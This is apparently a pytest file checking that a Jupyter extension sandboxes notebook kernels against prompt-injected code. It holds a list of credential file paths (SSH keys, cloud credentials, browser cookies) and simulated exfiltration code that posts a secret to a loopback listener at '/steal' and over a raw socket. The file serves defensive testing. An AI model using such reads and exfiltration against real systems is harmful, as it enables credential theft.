"""A notebook's kernel is boxed by default, and the analyst keeps what they use (issue 41.1).

A real `jupyter server` (as root, and as an unprivileged user) starts a notebook's kernel the
way JupyterLab does (`POST /api/sessions` with the notebook's path). Code in it, standing for
a prompt-injected step, tries to read the user's secrets, Jupyter's runtime folder (the
server's token) and to send a file to a local listener that stands for the internet: each
is refused. What the analyst uses works: the notebook's folder and the rest of Jupyter's
root read-write, the home read-only, `%pip install` from a (local) package index through the
egress proxy, a host allowed for this notebook at once. The user's choice "Run this
notebook unboxed" gives the next kernel all the user's rights: there the same reads succeed,
so each test can fail.
"""

from __future__ import annotations

import json
import os
import socket
import threading
from collections.abc import Iterator
from http.server import (
    BaseHTTPRequestHandler,
    HTTPServer,
    SimpleHTTPRequestHandler,
    ThreadingHTTPServer,
)
from pathlib import Path
from typing import Any

import pytest
from jupyter_client.blocking.client import BlockingKernelClient

from tests.demo_wheel import PACKAGE, demo_wheel
from tests.kernelrun import connection_file
from tests.security.unprivileged import WHO, Server, running

NOTEBOOK = "work/analysis.ipynb"
#: Secrets under the home (a sample of the documented list) and one the setting adds.
SECRETS = (".ssh/id_rsa", ".aws/credentials", ".netrc", ".git-credentials", ".pypirc",
           ".config/gcloud/credentials.db", ".kube/config", ".docker/config.json",
           ".gnupg/private-keys-v1.d/key", ".local/share/keyrings/login.keyring",
           ".mozilla/firefox/p.default/logins.json", ".config/google-chrome/Default/Cookies",
           ".bash_history", ".python_history", "project/keys/api.txt")
HIDDEN_MORE = ["~/project/keys"]


class Listener:
    """A local HTTP server standing for the internet: it records every request it gets."""

    def __init__(self) -> None:
        self.got: list[str] = []
        seen = self.got

        class Handler(BaseHTTPRequestHandler):
            def _answer(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                seen.append(f"{self.command} {self.path} {self.rfile.read(length)!r}")
                self.send_response(200)
                self.send_header("Content-Length", "2")
                self.end_headers()
                self.wfile.write(b"ok")

            do_GET = do_POST = _answer

            def log_message(self, *args: Any) -> None:
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = int(self.httpd.server_address[1])
        threading.Thread(target=self.httpd.serve_forever, args=(0.05,), daemon=True).start()


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    """The 'internet': a listener on loopback."""
    found = Listener()
    yield found
    found.httpd.shutdown()


@pytest.fixture(scope="module")
def index(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A local package index (PEP 503, one wheel); return its URL."""
    root = tmp_path_factory.mktemp("index")
    project = root / "simple" / PACKAGE.replace("_", "-")
    wheel = demo_wheel(project)
    (project / "index.html").write_text(f'<a href="{wheel.name}">{wheel.name}</a>')
    root.chmod(0o755)

    class Files(SimpleHTTPRequestHandler):
        def __init__(self, *args: Any, **kwargs: Any) -> None:
            super().__init__(*args, directory=str(root), **kwargs)

        def log_message(self, *args: Any) -> None:
            pass

    httpd = HTTPServer(("127.0.0.1", 0), Files)
    threading.Thread(target=httpd.serve_forever, args=(0.05,), daemon=True).start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}/simple"
    httpd.shutdown()


@pytest.fixture(scope="module", params=WHO)
def server(request: pytest.FixtureRequest, index: str) -> Iterator[Server]:
    """A server with jupyter-ci's defaults, its home planted with secrets."""
    env = {"PIP_INDEX_URL": index, "PIP_CONFIG_FILE": "/dev/null"}
    with running(request.param, {"sandbox_hidden": HIDDEN_MORE}, env) as started:
        for secret in SECRETS:
            path = started.home / secret
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(f"secret of {secret}\n")
        (started.home / "datasets").mkdir(exist_ok=True)
        (started.home / "shared.csv").write_text("region,revenue\nNorth,1\n")
        uid = started.home.stat().st_uid
        for path in started.home.rglob("*"):
            if uid and not path.is_symlink():
                os.chown(path, uid, uid)
        yield started


def open_notebook(server: Server, path: str = NOTEBOOK) -> tuple[str, BlockingKernelClient]:
    """Start the notebook's kernel as JupyterLab does; return its id and a client."""
    (server.home / path).parent.mkdir(parents=True, exist_ok=True)
    body = {"path": path, "name": Path(path).name, "type": "notebook",
            "kernel": {"name": "python3"}}
    status, session = call(server, "POST", "api/sessions", body)
    assert status == 201, session
    kernel = session["kernel"]["id"]
    client = BlockingKernelClient()
    client.load_connection_file(str(connection_file(Path(server.info["runtime_dir"]), kernel,
                                                    server.home.stat().st_uid)))
    client.start_channels()
    client.wait_for_ready(timeout=60)
    return kernel, client


def call(server: Server, method: str, path: str, body: Any = None) -> tuple[int, Any]:
    """Send one request with the server's token and a JSON body."""
    import urllib.error
    import urllib.request

    request = urllib.request.Request(
        f"{server.url}{path}", method=method,
        data=json.dumps(body).encode() if body is not None else None,
        headers={"Authorization": f"token {server.token}", "Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(request, timeout=120) as reply:
            return reply.status, json.loads(reply.read() or b"null")
    except urllib.error.HTTPError as err:
        return err.code, json.loads(err.read() or b"null")


def run(client: BlockingKernelClient, code: str) -> str:
    """Run code; return its stdout and stderr, and the error's name and value if it raised."""
    out: list[str] = []

    def hook(msg: dict[str, Any]) -> None:
        if msg["msg_type"] == "stream":
            out.append(msg["content"]["text"])
        elif msg["msg_type"] == "error":
            out.append(f"{msg['content']['ename']}: {msg['content']['evalue']}")

    client.execute_interactive(code, output_hook=hook, timeout=180)
    return "".join(out)


READ = f"""
import json, os
home = os.path.expanduser("~")
found = {{}}
for rel in {SECRETS!r}:
    try:
        found[rel] = open(os.path.join(home, rel)).read()
    except OSError as err:
        found[rel] = type(err).__name__
runtime = os.path.join(home, "runtime")
listed = os.listdir(runtime) if os.path.isdir(runtime) else None
print(json.dumps({{"found": found, "runtime": listed, "cwd": os.getcwd(), "home": home,
                  "boxed": os.environ.get("JUPYTER_CI_BOXED")}}))
"""

WRITE = """
import os
home = os.path.expanduser("~")
open(os.path.join(home, "datasets", "out.csv"), "w").write("x\\n1\\n")
print(open(os.path.join(home, "shared.csv")).read().splitlines()[1])
try:
    open(os.path.join(home, "..", "outside.txt"), "w").write("x")
    print("outside written")
except OSError as err:
    print("outside", type(err).__name__)
"""


def exfiltrate(port: int) -> str:
    """The injected step: send a secret to the 'internet' by HTTP, then by a raw socket."""
    return f"""
import os, socket, urllib.request
secret = b"id_rsa contents"
try:
    urllib.request.urlopen(urllib.request.Request("http://127.0.0.1:{port}/steal",
                           data=secret), timeout=20)
    print("http sent")
except Exception as err:
    print("http refused:", err)
try:
    s = socket.create_connection(("127.0.0.1", {port}), timeout=5)
    s.sendall(b"POST /raw HTTP/1.0\\r\\nContent-Length: 15\\r\\n\\r\\n" + secret)
    print("raw sent")
except OSError as err:
    print("raw refused:", type(err).__name__)
"""


def test_a_notebook_kernel_is_boxed_and_reads_no_secret(server: Server) -> None:
    kernel, client = open_notebook(server)
    try:
        report = json.loads(run(client, READ))
        wrote = run(client, WRITE)
    finally:
        client.stop_channels()
    status, box = call(server, "GET", f"jupyter-ci/box?kernel={kernel}")
    assert status == 200 and box["boxed"] and box["notebook"] == NOTEBOOK, box
    assert report["boxed"] == "notebook"
    assert report["cwd"] == str((server.home / NOTEBOOK).parent)
    assert report["home"] == str(server.home)
    leaked = {rel: text for rel, text in report["found"].items() if text.startswith("secret")}
    assert leaked == {}, leaked
    # Jupyter's runtime folder (the server's token and connection files) is not there.
    assert not report["runtime"], report["runtime"]
    # The rest of Jupyter's root is the analyst's to read and write; nothing outside it is.
    assert wrote.splitlines()[0] == "North,1", wrote
    assert (server.home / "datasets" / "out.csv").read_text() == "x\n1\n"
    # (A write there lands in the box's private /tmp, if the folder is under /tmp, or fails.)
    assert not (server.home.parent / "outside.txt").exists(), wrote


def test_an_injected_step_cannot_send_a_file_out(server: Server, listener: Listener) -> None:
    kernel, client = open_notebook(server)
    try:
        said = run(client, exfiltrate(listener.port))
    finally:
        client.stop_channels()
    assert "http sent" not in said and "raw sent" not in said, said
    # The refusal names the host and how to allow it.
    assert f"may not reach 127.0.0.1:{listener.port}" in said, said
    assert f"Allow 127.0.0.1:{listener.port} for this notebook" in said, said
    assert "c.JupyterCI.notebook_network" in said
    assert not [got for got in listener.got if "steal" in got or "raw" in got]
    status, box = call(server, "GET", f"jupyter-ci/box?kernel={kernel}")
    assert status == 200 and f"127.0.0.1:{listener.port}" in box["refused"], box


def test_pip_install_from_the_package_index_works_through_the_proxy(server: Server) -> None:
    _kernel, client = open_notebook(server, "work/pip.ipynb")
    try:
        installed = run(client, f"%pip install --no-cache-dir {PACKAGE.replace('_', '-')}")
        imported = run(client, f"import {PACKAGE}; print({PACKAGE}.VALUE, {PACKAGE}.__file__)")
    finally:
        client.stop_channels()
    assert "Successfully installed" in installed, installed
    value, where = imported.split()
    assert value == "42", imported
    # Into the boxes' own folder, never into the kernel's environment.
    assert "/jupyter_ci/box/envs/" in where, where


def test_a_host_allowed_for_the_notebook_works_at_once_and_others_still_fail(
    server: Server, listener: Listener
) -> None:
    kernel, client = open_notebook(server, "work/allow.ipynb")
    fetch = f"""
import urllib.request
try:
    print(urllib.request.urlopen("http://127.0.0.1:{listener.port}/allowed", timeout=20).read())
except Exception as err:
    print("refused:", err)
"""
    try:
        assert "refused:" in run(client, fetch)
        status, choice = call(server, "POST", "jupyter-ci/box/hosts",
                              {"path": "work/allow.ipynb", "host": f"127.0.0.1:{listener.port}"})
        assert status == 200 and choice["hosts"] == [f"127.0.0.1:{listener.port}"], choice
        assert run(client, fetch).strip() == "b'ok'"  # the same kernel, no restart
        other = run(client, "import urllib.request\ntry:\n    urllib.request.urlopen("
                    "'https://example.com', timeout=20)\nexcept Exception as err:\n"
                    "    print('refused:', err)")
        assert "may not reach example.com:443" in other, other
    finally:
        client.stop_channels()
    # Kept for the notebook, outside its file: its next kernel may reach the host too.
    status, box = call(server, "GET", f"jupyter-ci/box?kernel={kernel}")
    assert f"127.0.0.1:{listener.port}" in box["network"], box
    assert not (server.home / "work" / "allow.ipynb").exists() or \
        "127.0.0.1" not in (server.home / "work" / "allow.ipynb").read_text()
    status, refused = call(server, "POST", "jupyter-ci/box/hosts",
                           {"path": "work/allow.ipynb", "host": "not a host!"})
    assert status == 400 and refused["reason"] == "bad_host", refused


def test_run_this_notebook_unboxed_gives_the_next_kernel_the_users_rights(
    server: Server,
) -> None:
    path = "work/unboxed.ipynb"
    status, choice = call(server, "PUT", "jupyter-ci/box/notebook", {"path": path,
                                                                      "boxed": False})
    assert status == 200 and choice["boxed"] is False, choice
    kernel, client = open_notebook(server, path)
    try:
        report = json.loads(run(client, READ))
    finally:
        client.stop_channels()
    status, box = call(server, "GET", f"jupyter-ci/box?kernel={kernel}")
    assert box["boxed"] is False and "Run this notebook unboxed" in box["reason"], box
    # The control: unboxed, the same reads find every secret.
    assert report["boxed"] is None
    assert all(text.startswith("secret") for text in report["found"].values()), report
    call(server, "PUT", "jupyter-ci/box/notebook", {"path": path, "boxed": True})
    # The choice lives in the user's data folder, 0600, not in any notebook.
    kept = server.home / "data" / "jupyter-ci-notebook-boxes.json"
    assert kept.stat().st_mode & 0o777 == 0o600


def test_always_refuses_the_unboxed_choice_and_kernels_it_cannot_box() -> None:
    with running("unprivileged", {"notebook_sandbox": "always"}) as server:
        status, refused = call(server, "PUT", "jupyter-ci/box/notebook",
                               {"path": "a.ipynb", "boxed": False})
        assert status == 409 and refused["reason"] == "boxes_required", refused
        spec = server.home / "data" / "kernels" / "nobox"
        spec.mkdir(parents=True)
        (spec / "kernel.json").write_text(json.dumps(
            {"argv": ["/bin/true", "{connection_file}"], "display_name": "No box",
             "language": "shell"}))
        status, body = call(server, "POST", "api/sessions", {
            "path": "b.ipynb", "name": "b.ipynb", "type": "notebook",
            "kernel": {"name": "nobox"}})
        assert status >= 500 and "notebook_sandbox = 'always'" in json.dumps(body), body


def test_the_box_status_of_an_unknown_kernel_is_a_404(server: Server) -> None:
    status, body = call(server, "GET", "jupyter-ci/box?kernel=nope")
    assert status == 404 and body["reason"] == "no_kernel", body
    with socket.create_connection(("127.0.0.1", int(server.info["port"])), timeout=5) as raw:
        # No token: Jupyter's own authentication answers, before any of ours runs.
        raw.sendall(b"PUT /jupyter-ci/box/notebook HTTP/1.1\r\nHost: x\r\n"
                    b"Content-Length: 2\r\n\r\n{}")
        raw.settimeout(10)
        assert raw.recv(64).split()[1] in (b"403", b"401")


@pytest.mark.skipif(os.geteuid() != 0, reason="a root server's boxes: the tests run as root")
def test_a_root_servers_box_reads_none_of_roots_private_files_in_etc() -> None:
    secret = Path("/etc/jupyter-ci-test-private.conf")
    secret.write_text("password = root's own\n")
    secret.chmod(0o600)
    try:
        with running("root", {}) as server:
            _kernel, client = open_notebook(server)
            try:
                said = run(client, f"try:\n    print(repr(open({str(secret)!r}).read()))\n"
                           "except OSError as err:\n    print(type(err).__name__)\n"
                           "print(repr(open('/etc/hostname').read()) != '')")
            finally:
                client.stop_channels()
    finally:
        secret.unlink()
    # Root in a box reads root's 0600 files as their owner, unless they are hidden (a
    # device node in their place, which the box cannot open); the rest of /etc it reads.
    assert "root's own" not in said and said.splitlines()[-1] == "True", said
